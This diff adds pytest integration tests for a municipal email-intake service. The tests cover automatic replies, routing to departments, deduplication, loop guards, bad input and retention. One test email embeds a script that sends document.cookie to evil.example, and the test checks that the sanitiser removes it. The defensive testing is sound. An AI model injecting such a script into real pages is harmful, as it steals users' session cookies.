@@ -1,0 +1,208 @@
+"""Intake → triage → console case → reply in the thread, against a real SMTP server (aiosmtpd), the
+real app on a temporary database, the real redactor and the trained model. Bad input included."""
+
+from __future__ import annotations
+
+from email.message import EmailMessage
+
+from sqlalchemy import select
+
+from tests.conftest import login
+from tests.mail.conftest import build
+
+
+def _intake(app, *raws):
+    from web.services import mail as svc
+
+    with app.app_context():
+        return svc.intake(svc.municipality_for("fjordvik"), list(raws))
+
+
+def _items(app):
+    from web.extensions import db
+    from web.mail_models import MailItem
+
+    with app.app_context():
+        return [(i.direction, i.action, i.department, i.auto_reply, i.reason, i.deliveries, i.case_id)
+                for i in db.session.scalars(select(MailItem).order_by(MailItem.id))]
+
+
+def test_routine_question_is_answered_automatically_in_the_thread(mail_app, smtp_sink):
+    raw = build("Hei! Når er biblioteket åpent på lørdag?\n\nMvh\nKari", "Bibliotek", message_id="<q1@example.org>")
+    [result] = _intake(mail_app, raw)
+    assert result["status"] == "answer" and result["auto_reply"] is True
+    [sent] = smtp_sink.messages
+    assert sent["To"] == "kari.nordmann@example.org"
+    assert sent["In-Reply-To"] == "<q1@example.org>" and "<q1@example.org>" in sent["References"]
+    assert sent["Auto-Submitted"] == "auto-replied" and sent["Subject"] == "Re: Bibliotek"
+    assert "fjordvik" in sent.get_content().lower()
+    from web.extensions import db
+    from web.models import Case, TransparencyRecord
+
+    with mail_app.app_context():
+        case = db.session.get(Case, result["case_id"])
+        assert case.conversation.channel == "mail" and case.status == "answered" and case.department == "culture"
+        record = db.session.scalars(select(TransparencyRecord).where(TransparencyRecord.channel == "mail")).one()
+        assert record.route == "answer" and "library" in record.reason and "automatically" in record.reason
+
+
+def test_own_case_is_routed_to_the_department_and_the_caseworker_replies_in_the_thread(mail_app, smtp_sink):
+    raw = build("Hei\n\nVi søkte om barnehageplass for datteren vår i mars, men har ikke fått svar. "
+                "Hvor langt har søknaden min kommet?\n\nMvh\nKari Nordmann\nStorgata 5", "Søknad barnehage",
+                message_id="<q2@example.org>")
+    [result] = _intake(mail_app, raw)
+    assert result["status"] == "route" and not smtp_sink.messages
+    client = mail_app.test_client()
+    login(client, "skole@fjordvik.example", "demo-skole")
+    page = client.get("/console/").get_data(as_text=True)
+    assert "barnehage" in page.lower() or str(result["case_id"]) in page
+    from web.extensions import db
+    from web.models import Case, User
+    from web.services import cases
+
+    with mail_app.app_context():
+        case = db.session.get(Case, result["case_id"])
+        assert case.department == "education" and "Storgata 5" not in case.conversation.messages[0].text
+        user = db.session.scalars(select(User).where(User.email == "skole@fjordvik.example")).one()
+        cases.reply(case, user, "Hei! Søknaden er under behandling, du får svar innen 14 dager.")
+    [sent] = smtp_sink.messages
+    assert sent["In-Reply-To"] == "<q2@example.org>" and sent["Auto-Submitted"] is None
+    assert "under behandling" in sent.get_content()
+    # the resident answers in the same thread: same case, no new one
+    reply = build("Takk! Da venter vi.", "Re: Søknad barnehage", message_id="<q3@example.org>",
+                  In_Reply_To=sent["Message-ID"], References=f"<q2@example.org> {sent['Message-ID']}")
+    [again] = _intake(mail_app, reply)
+    assert again["case_id"] == result["case_id"] and again["status"] == "route"
+
+
+def test_duplicate_delivery_makes_no_second_case(mail_app, smtp_sink):
+    raw = build("Hva koster SFO for en heltidsplass?", "SFO", message_id="<dup@example.org>")
+    first = _intake(mail_app, raw)
+    second = _intake(mail_app, raw, raw)
+    assert [r["status"] for r in second] == ["duplicate", "duplicate"]
+    rows = _items(mail_app)
+    assert len([r for r in rows if r[0] == "in"]) == 1 and rows[0][5] == 3 and rows[0][6] == first[0]["case_id"]
+
+
+def test_auto_reply_loop_is_broken(mail_app, smtp_sink):
+    _intake(mail_app, build("Når åpner svømmehallen på søndag?", "Svømmehall", message_id="<l1@example.org>",
+                            sender="ola@example.org"))
+    assert len(smtp_sink.messages) == 1
+    ours = smtp_sink.messages[0]
+    # the resident's mailbox answers our reply with its own auto-reply, and then again
+    for n in range(2):
+        ooo = build("Jeg er på ferie til 10. august og leser ikke e-post.", "Automatisk svar: Re: Svømmehall",
+                    message_id=f"<ooo{n}@example.org>", sender="ola@example.org", Auto_Submitted="auto-replied",
+                    In_Reply_To=ours["Message-ID"])
+        [r] = _intake(mail_app, ooo)
+        assert r["status"] == "set_aside"
+    # an auto-responder without headers that keeps asking: still no second automatic reply today
+    _intake(mail_app, build("Når åpner svømmehallen på søndag?", "Svømmehall", message_id="<l2@example.org>",
+                            sender="ola@example.org"))
+    assert len(smtp_sink.messages) == 1
+    assert any("loop guard" in r[4] for r in _items(mail_app))
+
+
+def test_bad_input_is_stored_with_a_reason_and_nothing_crashes(mail_app, smtp_sink):
+    malformed = (b"From: per@example.org\r\nSubject: hjelp\r\nMessage-ID: <bad1@example.org>\r\n"
+                 b"Content-Type: multipart/mixed; boundary=\"nope\"\r\n\r\nJeg har f\xc3\xa5tt feil faktura p\xc3\xa5 "
+                 b"renovasjon, kan dere rette den?\r\n")
+    charset = (b"From: per@example.org\r\nSubject: SFO\r\nMessage-ID: <bad2@example.org>\r\n"
+               b"Content-Type: text/plain; charset=x-unknown-8\r\n\r\nHva koster SFO p\xe5 Fjordvik skole?\r\n")
+    big = EmailMessage()
+    big["From"], big["Subject"], big["Message-ID"] = "per@example.org", "Dokumenter", "<bad3@example.org>"
+    big.set_content("Her er lønnsslippene dere ba om til søknaden min om bostøtte.")
+    big.add_attachment(b"%PDF" + b"\0" * (20 * 1024 * 1024), maintype="application", subtype="pdf", filename="lonn.pdf")
+    html = build("<html><body><script>fetch('https://evil.example/'+document.cookie)</script>"
+                 "<p>Hei! Når er biblioteket åpent på lørdag?</p></body></html>", "Bibliotek", html=True,
+                 message_id="<bad4@example.org>", sender="eva@example.org")
+    results = _intake(mail_app, malformed, charset, big.as_bytes(), html)
+    assert [r["status"] for r in results] == ["route", "answer", "route", "answer"]
+    assert results[1]["auto_reply"] is False  # a mail we could not read cleanly is never answered automatically
+    from web.extensions import db
+    from web.mail_models import MailItem
+
+    with mail_app.app_context():
+        items = {i.message_id: i for i in db.session.scalars(select(MailItem))}
+        assert any(p.startswith("malformed") for p in items["bad1@example.org"].problems)
+        assert "unknown_charset:x-unknown-8" in items["bad2@example.org"].problems
+        assert items["bad3@example.org"].attachments[0]["size"] > 20_000_000
+        assert "evil" not in items["bad4@example.org"].case.conversation.messages[0].text
+
+
+def test_set_aside_mail_is_kept_for_review_and_can_be_released(mail_app, smtp_sink):
+    news = build("Høstens turer! Meld deg av: https://turlag.example/avmeld", "Nyhetsbrev",
+                 sender="nyhetsbrev@turlag.example", List_Unsubscribe="<https://turlag.example/avmeld>")
+    [r] = _intake(mail_app, news)
+    assert r["status"] == "set_aside" and not smtp_sink.messages
+    from web.extensions import db
+    from web.mail_models import MailItem
+    from web.models import User
+    from web.services import mail as svc
+
+    with mail_app.app_context():
+        item = db.session.scalars(select(MailItem)).one()
+        assert item.keep_until is not None and "Høstens turer" in item.text and "List-Unsubscribe" in item.reason
+        admin = db.session.scalars(select(User).where(User.role == "admin")).first()
+        case = svc.release(item, admin, "culture")
+        assert case.department == "culture"
+        stats = svc.triage_stats(svc.municipality_for("fjordvik"))
+        assert stats["overrides"]["action"] == 1
+
+
+def test_analytics_shares_and_department_overrides(mail_app, smtp_sink):
+    _intake(mail_app,
+            build("Når er biblioteket åpent på lørdag?", "Bibliotek", sender="a@example.org"),
+            build("Jeg klager på vedtaket om avslag på kommunal bolig.", "Klage", sender="b@example.org"),
+            build("Out of office", "Automatic reply: x", sender="c@example.org", Auto_Submitted="auto-replied"))
+    from web.extensions import db
+    from web.mail_models import MailItem
+    from web.models import User
+    from web.services import cases
+    from web.services import mail as svc
+
+    with mail_app.app_context():
+        stats = svc.triage_stats(svc.municipality_for("fjordvik"))
+        assert stats["counts"] == {"answer": 1, "route": 1, "set_aside": 1}
+        assert stats["share"]["answer"] == 33.3 and stats["per_department"]["culture"]["share_answered"] == 100.0
+        routed = db.session.scalars(select(MailItem).where(MailItem.action == "route")).one()
+        admin = db.session.scalars(select(User).where(User.role == "admin")).first()
+        cases.reassign(routed.case, admin, "service_desk", "wrong queue")
+        stats = svc.triage_stats(svc.municipality_for("fjordvik"))
+        assert stats["overrides"]["department"] == 1 and stats["overrides"]["rate"] == 33.3
+
+
+def test_without_a_model_mail_goes_to_the_service_desk(tmp_path, smtp_sink):
+    from tests.conftest import make_app
+
+    empty = tmp_path / "no-models"
+    empty.mkdir()
+    app = make_app(tmp_path, SMTP_HOST="127.0.0.1", SMTP_PORT=smtp_sink.port, MODEL_DIR=str(empty))
+    [r] = _intake(app, build("Når er biblioteket åpent på lørdag?", "Bibliotek"))
+    assert r["status"] == "route" and r["case_id"] and not smtp_sink.messages
+    assert "intents unavailable" in _items(app)[0][4]
+
+
+def test_mail_import_command_and_retention(mail_app, smtp_sink, tmp_path):
+    from datetime import timedelta
+
+    from web.cli import cli
+    from web.extensions import db
+    from web.mail_models import MailItem
+    from web.services import retention
+
+    folder = tmp_path / "inbox"
+    folder.mkdir()
+    (folder / "a.eml").write_bytes(build("Hva koster SFO per måned?", "SFO", message_id="<imp1@example.org>"))
+    (folder / "b.eml").write_bytes(build("Out of office until Monday.", "Automatic reply: SFO",
+                                         message_id="<imp2@example.org>", Auto_Submitted="auto-replied"))
+    runner = mail_app.test_cli_runner()
+    out = runner.invoke(cli, ["mail", "import", str(folder)]).output
+    assert "answer: 1" in out and "set_aside: 1" in out, out
+    out = runner.invoke(cli, ["mail", "import", str(folder / "a.eml")]).output
+    assert "duplicate: 1" in out, out
+    with mail_app.app_context():
+        later = db.session.scalars(select(MailItem).where(MailItem.action == "set_aside")).one().keep_until + timedelta(days=1)
+        counts = retention.run(now=later)
+        assert counts["mail_items"] >= 1
+        assert [i.action for i in db.session.scalars(select(MailItem))] == ["answer"]
